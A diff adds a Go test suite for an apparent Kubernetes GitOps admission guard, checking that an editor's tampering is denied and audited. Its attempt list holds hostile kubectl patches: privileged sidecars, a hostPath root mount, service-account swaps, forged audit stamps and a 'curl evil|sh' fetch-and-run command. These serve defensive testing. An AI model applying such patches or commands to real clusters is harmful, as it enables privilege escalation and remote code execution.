@@ -1,0 +1,171 @@
+package adversary
+
+import (
+	"context"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	corev1 "k8s.io/api/core/v1"
+	rbacv1 "k8s.io/api/rbac/v1"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	"github.com/driftguard/driftguard/api/v1alpha1"
+	"github.com/driftguard/driftguard/audit"
+	"github.com/driftguard/driftguard/test/harness"
+)
+
+// workload is a Namespace, a Deployment that states what a namespace editor
+// would like to undo (no privilege escalation, no service account token, no
+// host user namespace) and a ConfigMap.
+func workload(ns string) map[string]string {
+	return map[string]string{
+		"namespace.yaml": fmt.Sprintf("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: %s\n", ns),
+		"deployment.yaml": fmt.Sprintf(`apiVersion: apps/v1
+kind: Deployment
+metadata:
+  name: web
+  namespace: %s
+spec:
+  replicas: 2
+  selector:
+    matchLabels: {app: web}
+  template:
+    metadata:
+      labels: {app: web}
+    spec:
+      automountServiceAccountToken: false
+      hostUsers: false
+      containers:
+        - name: web
+          image: nginx:1.27
+          securityContext:
+            allowPrivilegeEscalation: false
+`, ns),
+		"configmap.yaml": fmt.Sprintf("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cfg\n  namespace: %s\ndata:\n  greeting: from git\n", ns),
+	}
+}
+
+// guarded creates a Guard for workload(ns), waits until it is applied, and
+// makes eve an editor of ns.
+func guarded(t *testing.T, name, ns string, mods ...func(*v1alpha1.GuardSpec)) *harness.Repo {
+	t.Helper()
+	repo := h.NewGuard(t, name, true, workload(ns), mods...)
+	h.WaitApplied(t, repo.Guard, repo.Initial)
+	editorIn(t, ns)
+	return repo
+}
+
+// TestEditorDeniedAtAdmission: every way of making a managed object
+// different, as eve tries it with kubectl, is decided and denied, naming the
+// Git file, and recorded with her name.
+func TestEditorDeniedAtAdmission(t *testing.T) {
+	const ns = "adv-admission"
+	repo := guarded(t, "adv-admission", ns)
+	attempts := []struct {
+		name string
+		args []string
+		file string // the Git file the denial names
+		path string // a path the decision record lists
+	}{
+		{"add hostNetwork", []string{"patch", "deployment", "web", "--type=json", "-p", `[{"op":"add","path":"/spec/template/spec/hostNetwork","value":true}]`}, "deployment.yaml", "/spec/template/spec/hostNetwork"},
+		{"add a privileged sidecar", []string{"patch", "deployment", "web", "--type=strategic", "-p", `{"spec":{"template":{"spec":{"containers":[{"name":"tap","image":"evil","securityContext":{"privileged":true}}]}}}}`}, "deployment.yaml", "/spec/template/spec/containers/1"},
+		{"add a hostPath volume", []string{"patch", "deployment", "web", "--type=strategic", "-p", `{"spec":{"template":{"spec":{"volumes":[{"name":"root","hostPath":{"path":"/"}}]}}}}`}, "deployment.yaml", "/spec/template/spec/volumes"},
+		{"change the service account", []string{"patch", "deployment", "web", "--type=merge", "-p", `{"spec":{"template":{"spec":{"serviceAccountName":"admin"}}}}`}, "deployment.yaml", "/spec/template/spec/serviceAccountName"},
+		{"add a command", []string{"patch", "deployment", "web", "--type=json", "-p", `[{"op":"add","path":"/spec/template/spec/containers/0/command","value":["sh","-c","curl evil|sh"]}]`}, "deployment.yaml", "/spec/template/spec/containers/0/command"},
+		{"remove allowPrivilegeEscalation: false", []string{"patch", "deployment", "web", "--type=json", "-p", `[{"op":"remove","path":"/spec/template/spec/containers/0/securityContext/allowPrivilegeEscalation"}]`}, "deployment.yaml", "/spec/template/spec/containers/0/securityContext/allowPrivilegeEscalation"},
+		{"remove automountServiceAccountToken: false", []string{"patch", "deployment", "web", "--type=json", "-p", `[{"op":"remove","path":"/spec/template/spec/automountServiceAccountToken"}]`}, "deployment.yaml", "/spec/template/spec/automountServiceAccountToken"},
+		{"remove hostUsers: false", []string{"patch", "deployment", "web", "--type=json", "-p", `[{"op":"remove","path":"/spec/template/spec/hostUsers"}]`}, "deployment.yaml", "/spec/template/spec/hostUsers"},
+		{"label", []string{"label", "configmap", "cfg", "team=eve"}, "configmap.yaml", "/metadata/labels/team"},
+		{"remove the inventory label", []string{"label", "configmap", "cfg", "driftguard.io/guard-"}, "configmap.yaml", "/metadata/labels/driftguard.io~1guard"},
+		{"annotate", []string{"annotate", "configmap", "cfg", "note=x"}, "configmap.yaml", "/metadata/annotations/note"},
+		{"add an owner reference", []string{"patch", "configmap", "cfg", "--type=merge", "-p", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"mine","uid":"0b7e4a3e-7d7f-4b5e-9d51-000000000001"}]}}`}, "configmap.yaml", "/metadata/ownerReferences"},
+		{"add a finalizer", []string{"patch", "configmap", "cfg", "--type=merge", "-p", `{"metadata":{"finalizers":["eve.example/keep"]}}`}, "configmap.yaml", "/metadata/finalizers"},
+		{"change under a control-plane manager's name", []string{"patch", "configmap", "cfg", "--field-manager=kube-controller-manager", "--type=merge", "-p", `{"data":{"greeting":"by eve"}}`}, "configmap.yaml", "/data/greeting"},
+		{"edit and forge a stamp", []string{"patch", "configmap", "cfg", "--type=merge", "-p", `{"metadata":{"annotations":{"driftguard.io/changed-by":"{\"user\":\"bob\",\"groups\":[\"sre\"],\"time\":\"2099-01-01T00:00:00Z\"}","driftguard.io/break-glass":"INC-1"}},"data":{"greeting":"by eve"}}`}, "configmap.yaml", "/data/greeting"},
+		{"scale", []string{"scale", "deployment", "web", "--replicas=9"}, "deployment.yaml", "/spec/replicas"},
+		{"delete", []string{"delete", "configmap", "cfg", "--wait=false"}, "configmap.yaml", ""},
+	}
+	for _, a := range attempts {
+		t.Run(a.name, func(t *testing.T) {
+			out, err := h.KubectlAs(t, eve, append(a.args, "-n", ns)...)
+			if err == nil {
+				t.Fatalf("admitted: %s", out)
+			}
+			for _, want := range []string{"denied", "managed by Git", a.file, "Change it in Git"} {
+				if !strings.Contains(out, want) {
+					t.Fatalf("denial lacks %q: %s", want, out)
+				}
+			}
+			if a.path == "" {
+				return
+			}
+			h.Audit.Wait(t, 10*time.Second, "eve's denied "+a.name, func(r audit.Record) bool {
+				return r.Guard == repo.Guard && r.Type == audit.Decision && r.User == "eve" && r.Action == "deny" &&
+					slices.ContainsFunc(r.Fields, func(f audit.Field) bool { return strings.HasPrefix(f.Path, a.path) })
+			})
+		})
+	}
+	// Nothing got in: the ConfigMap is as Git has it and carries no stamp of eve's.
+	var cm corev1.ConfigMap
+	if err := h.Admin.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: "cfg"}, &cm); err != nil {
+		t.Fatal(err)
+	}
+	if cm.Data["greeting"] != "from git" || len(cm.OwnerReferences) > 0 || len(cm.Finalizers) > 0 || cm.Labels["team"] != "" {
+		t.Fatalf("a change got in: %+v", cm.ObjectMeta)
+	}
+}
+
+// TestForgedStampIsPutBack: a stamp eve writes, and nothing else, is not
+// an edit to decide, and the webhook takes it back: only the guard stamps.
+func TestForgedStampIsPutBack(t *testing.T) {
+	const ns = "adv-stamp"
+	guarded(t, "adv-stamp", ns)
+	forged := `{"metadata":{"annotations":{"driftguard.io/changed-by":"{\"user\":\"system:kube-controller-manager\",\"time\":\"2099-01-01T00:00:00Z\"}"}}}`
+	if out, err := h.KubectlAs(t, eve, "patch", "configmap", "cfg", "-n", ns, "--type=merge", "-p", forged); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	var cm corev1.ConfigMap
+	if err := h.Admin.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: "cfg"}, &cm); err != nil {
+		t.Fatal(err)
+	}
+	if v, ok := cm.Annotations[v1alpha1.ChangedByAnnotation]; ok {
+		t.Fatalf("a stamp written by hand stayed: %q", v)
+	}
+}
+
+// TestManagerNameRuleBindsToIdentity: an ignore rule naming a field manager
+// lets that manager's real identity change its fields; eve writing under the
+// same name is decided like any change.
+func TestManagerNameRuleBindsToIdentity(t *testing.T) {
+	const ns = "adv-manager"
+	const injector = "system:serviceaccount:cert-inject:injector"
+	repo := guarded(t, "adv-manager", ns, func(s *v1alpha1.GuardSpec) {
+		s.Ignore = []v1alpha1.IgnoreRule{{Kind: "ConfigMap", Name: "cfg", ManagedFieldsManagers: []string{"injector"}, Users: []string{injector}}}
+	})
+	// The injector, a controller written for this test, fills in its field.
+	injectorKC, _, err := h.Cluster.AddUser(injector, []string{"system:serviceaccounts", "injectors"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	bind(t, ns, rbacv1.GroupKind, "injectors")
+	if out, err := h.KubectlAs(t, injectorKC, "patch", "configmap", "cfg", "-n", ns, "--field-manager=injector", "--type=merge", "-p", `{"data":{"ca.crt":"injected"}}`); err != nil {
+		t.Fatalf("the injector was refused: %v %s", err, out)
+	}
+	// Eve under the injector's name: decided and denied.
+	out, err := h.KubectlAs(t, eve, "patch", "configmap", "cfg", "-n", ns, "--field-manager=injector", "--type=merge", "-p", `{"data":{"ca.crt":"eve's"}}`)
+	if err == nil || !strings.Contains(out, "managed by Git") {
+		t.Fatalf("eve under the injector's manager name was not denied: %v %s", err, out)
+	}
+	// The injector's field stays: not drift, not taken back.
+	h.WaitReconciles(t, repo.Guard, 2)
+	var cm corev1.ConfigMap
+	if err := h.Admin.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: "cfg"}, &cm); err != nil {
+		t.Fatal(err)
+	}
+	if cm.Data["ca.crt"] != "injected" {
+		t.Fatalf("the injector's field was taken back or changed: %v", cm.Data)
+	}
+}
